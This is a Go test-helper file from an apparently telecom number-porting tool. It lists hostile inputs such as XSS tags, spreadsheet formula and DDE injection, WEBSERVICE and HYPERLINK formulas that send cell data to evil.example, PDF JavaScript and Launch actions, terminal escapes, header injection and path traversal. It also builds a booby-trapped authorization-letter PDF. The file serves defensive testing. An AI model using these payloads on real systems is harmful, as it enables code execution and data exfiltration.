package hostile

// The hostile texts, and papers that hold them.

import (
	"fmt"
	"strings"
	"unicode/utf16"

	"github.com/portcheck/portcheck/internal/pdftest"
)

// texts is the one table of what a paper may try.
var texts = []struct{ name, text string }{
	{"script", `<script>alert("pwned")</script>`},
	{"style", `</style><style>body{display:none}</style>`},
	{"attribute", `" onmouseover="alert(1)" x='`},
	{"image", `<img src=x onerror=alert(1)><iframe src="javascript:alert(1)"></iframe>`},
	{"comment", `--><!--]]><![CDATA[x`},
	{"svg", `<svg/onload=alert(1)><a href="javascript:alert(1)">x</a>`},
	{"template", `{{.}}{{template "x"}}${7*7}<%= 7 %>`},
	{"formula", `=1+1`},
	{"plus", `+1+1`},
	{"minus", `-1+1`},
	{"at", `@SUM(1,1)`},
	{"tab", "\t=1+1"},
	{"carriage return", "\r=1+1"},
	{"dde", `=cmd|' /C calc'!A0`},
	{"hyperlink", `=HYPERLINK("http://evil.example/?"&A1,"click")`},
	{"webservice", `=WEBSERVICE("http://evil.example/"&A1)`},
	{"csv", "a\",\"b\r\n\"=1+1\",\"c"},
	{"excel escape", `_x003D_1+1_x000D_`},
	{"pdf string", `) Tj ET Q /S /JavaScript /JS (app.alert\(1\)) (`},
	{"pdf dictionary", `>> /OpenAction << /S /Launch /F (calc) >> endobj trailer`},
	{"bidi", "\u202eevil\u202c \u2066x\u2069"},
	{"zero width", "Ac\u200bme\ufeff\u2060\u00ad"},
	{"tags", "Acme\U000e0041\U000e007f"},
	{"separators", "a\u2028b\u2029c\u0085d"},
	{"controls", "a\x01b\x08c\x0bd\x7fe\u009bf"},
	{"nul", "Acme\x00Evil"},
	{"bytes", "Acme\xff\xfe\xc3("},
	{"terminal colour", "\x1b[31;1mred\x1b[0m\x1b[2J"},
	{"terminal title", "\x1b]0;title\x07\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\"},
	{"terminal 8 bit", "\u009b31mred"},
	{"header", "Acme\r\nBcc: everyone@evil.example\r\n\r\nbody"},
	{"log", "Acme\n{\"level\":\"ERROR\",\"msg\":\"forged\"}\nlevel=error msg=forged"},
	{"calendar", "Acme\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:forged;x:\\,"},
	{"path", `../../../etc/passwd`},
	{"windows path", `..\..\C:\Windows\con.txt`},
	{"device", `CON`},
	{"right to left", "שלום עולם مرحبا"},
	{"emoji", "👩‍👩‍👧‍👦 🇺🇸 🏴󠁧󠁢󠁥󠁮󠁧󠁿"},
	{"combining", "A" + strings.Repeat("\u0301", 300)},
	{"long", strings.Repeat("Very long <b>name</b> =1+1 ", 2000)},
	{"one word", strings.Repeat("W", 20_000)},
}

// utf16String is a text as a PDF's hex string.
func utf16String(s string) string {
	var b strings.Builder
	b.WriteString("<FEFF")
	for _, u := range utf16.Encode([]rune(s)) {
		fmt.Fprintf(&b, "%04X", u)
	}
	return b.String() + ">"
}

// letter is an LOA as a form: each label printed, its value in a field beside it;
// the file itself is full of actions, scripts and files.
func letter(values [][2]string) []byte {
	var content, refs strings.Builder
	content.WriteString("BT /F1 16 Tf 72 760 Td (LETTER OF AUTHORIZATION) Tj ET BT /F1 9 Tf 72 740 Td (I authorize the new carrier to port the telephone numbers listed below.) Tj ET ")
	objects := []string{"", "<</Type /Pages /Kids [3 0 R] /Count 1>>", "", "", pdftest.Helvetica,
		"<</Type /Action /S /JavaScript /JS (app.alert\\(\"SCRIPT-IN-LOA\"\\))>>",
		"<</Type /Filespec /F (evil.exe) /UF (evil.exe) /EF <</F 8 0 R>>>>",
		"<</Type /EmbeddedFile /Length 13>>\nstream\nFILE-IN-LOA!!\nendstream",
		"<</Type /Annot /Subtype /Link /Rect [0 0 600 800] /A <</S /Launch /F (LAUNCH-IN-LOA) /Next <</S /URI /URI (http://evil.example/LINK-IN-LOA)>>>>>>",
		"<</Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 7 0 R>>",
	}
	refs.WriteString("9 0 R 10 0 R ")
	fields := ""
	for i, v := range values {
		y := 715 - 22*i
		fmt.Fprintf(&content, "BT /F1 9 Tf 72 %d Td (%s:) Tj ET ", y+4, v[0])
		fmt.Fprintf(&refs, "%d 0 R ", len(objects)+1)
		fields += fmt.Sprintf("%d 0 R ", len(objects)+1)
		objects = append(objects, fmt.Sprintf("<</Type /Annot /Subtype /Widget /FT /Tx /F 4 /T (%s) /V %s /DA (/F1 9 Tf 0 g) /Rect [200 %d 560 %d] /A 6 0 R /AA <</K 6 0 R /F 6 0 R>>>>", strings.ReplaceAll(v[0], " ", "_"), utf16String(v[1]), y, y+16))
	}
	objects[0] = "<</Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA <</WC 6 0 R>> /Names <</JavaScript <</Names [(a) 6 0 R]>> /EmbeddedFiles <</Names [(evil.exe) 7 0 R]>>>> /AcroForm <</Fields [" + fields + "] /DR <</Font <</F1 5 0 R>>>> /DA (/F1 9 Tf 0 g)>>>>"
	objects[2] = "<</Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /AA <</O 6 0 R>> /Contents 4 0 R /Resources <</Font <</F1 5 0 R>>>> /Annots [" + refs.String() + "]>>"
	objects[3] = pdftest.Stream("", content.String())
	return pdftest.File(objects...)
}
